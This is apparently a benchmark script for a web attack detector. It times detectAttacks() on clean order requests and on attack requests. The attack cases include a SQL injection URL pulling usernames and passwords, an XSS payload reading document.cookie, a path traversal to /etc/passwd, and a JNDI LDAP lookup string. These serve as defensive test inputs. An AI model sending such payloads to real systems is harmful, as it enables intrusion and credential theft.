// `npm run bench:shield`: detectAttacks() through napi on a typical clean request (10 headers, 5
// query args, a 1 KB JSON body), the same with a 10 KB body, and attack requests; interleaved
// rounds, median / min / p90. Ends with:
//   clean_request_ns: N   (median ns for the clean 1 KB request; target <= 5000)
//   scaling_10x: R        (10 KB body / 1 KB body; target <= 12)
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const { detectAttacks } = require('palisade');

const headers = [
  ['host', 'shop.example.com'],
  ['user-agent', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15'],
  ['accept', 'application/json, text/plain, */*'],
  ['accept-language', 'en-GB,en;q=0.9'],
  ['accept-encoding', 'gzip, deflate, br'],
  ['content-type', 'application/json'],
  ['referer', 'https://shop.example.com/products/blue-shirt?ref=home'],
  ['cookie', 'session=9f8e7d6c5b4a39281706f5e4d3c2b1a0; theme=dark; consent=yes'],
  ['sec-fetch-mode', 'cors'],
  ['x-request-id', '4c1f2a0e-7b7d-4c55-9d6a-2f1b3c4d5e6f'],
];

/** A JSON order of about `target` bytes: names, addresses, ids, a note with punctuation. */
function jsonBody(target) {
  const items = [];
  for (let i = 0; ; i++) {
    items.push({ sku: `SKU-${String(i).padStart(5, '0')}-BL`, name: 'Blue cotton shirt, slim fit', qty: (i % 3) + 1, price: 29.95, note: "Please gift-wrap it (it's a present) - thanks!" });
    const body = JSON.stringify({ customer: { name: "Mary O'Neil", email: 'mary@example.org', phone: '+44 20 7946 0958' }, address: { street: '12 Baker Street', city: 'London', zip: 'NW1 6XE' }, items });
    if (body.length >= target) return Buffer.from(body);
  }
}

const url = '/api/orders?page=2&sort=price_desc&filter=in-stock&q=blue+shirt&lang=en-GB';
const cases = {
  'clean, 1 KB JSON': { method: 'POST', url, headers, body: jsonBody(1024), contentType: 'application/json' },
  'clean, 10 KB JSON': { method: 'POST', url, headers, body: jsonBody(10 * 1024), contentType: 'application/json' },
  'SQLi in the query': { method: 'GET', url: '/api/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--&page=1', headers },
  'XSS + traversal + JNDI in JSON': {
    method: 'POST',
    url: '/api/comments',
    headers,
    body: Buffer.from('{"comment":"<img src=x onerror=alert(document.cookie)>","file":"../../../../etc/passwd","q":"${jndi:ldap://x/a}"}'),
    contentType: 'application/json',
  },
};
const names = Object.keys(cases);
for (const n of names) {
  const r = detectAttacks(cases[n]);
  console.log(`${n.padEnd(32)} attack=${r.attack} ${r.findings.map((f) => `${f.family}@${f.location}`).join(' ')}`);
}
const expectAttack = { 'clean, 1 KB JSON': false, 'clean, 10 KB JSON': false, 'SQLi in the query': true, 'XSS + traversal + JNDI in JSON': true };
for (const n of names) {
  if (detectAttacks(cases[n]).attack !== expectAttack[n]) {
    console.error(`unexpected verdict for ${n}`);
    process.exit(1);
  }
}

const per = Object.fromEntries(names.map((n) => [n, []]));
const rounds = 25;
for (let round = 0; round < rounds + 2; round++) {
  for (let j = 0; j < names.length; j++) {
    const name = names[(round + j) % names.length];
    const input = cases[name];
    const reps = name.includes('10 KB') ? 100 : 400;
    const t = process.hrtime.bigint();
    for (let k = 0; k < reps; k++) detectAttacks(input);
    const ns = Number(process.hrtime.bigint() - t) / reps;
    if (round >= 2) per[name].push(ns);
  }
}
const stats = (xs) => {
  const s = [...xs].sort((a, b) => a - b);
  return { median: s[s.length >> 1], min: s[0], p90: s[Math.floor(s.length * 0.9)] };
};
console.log(`\nns per detectAttacks() call (median / min / p90 over ${rounds} rounds):`);
const st = {};
for (const n of names) {
  st[n] = stats(per[n]);
  console.log(`  ${n.padEnd(32)} ${st[n].median.toFixed(0).padStart(8)} ${st[n].min.toFixed(0).padStart(8)} ${st[n].p90.toFixed(0).padStart(8)}`);
}
console.log(`clean_request_ns: ${st[names[0]].median.toFixed(0)}`);
console.log(`scaling_10x: ${(st[names[1]].median / st[names[0]].median).toFixed(2)}`);
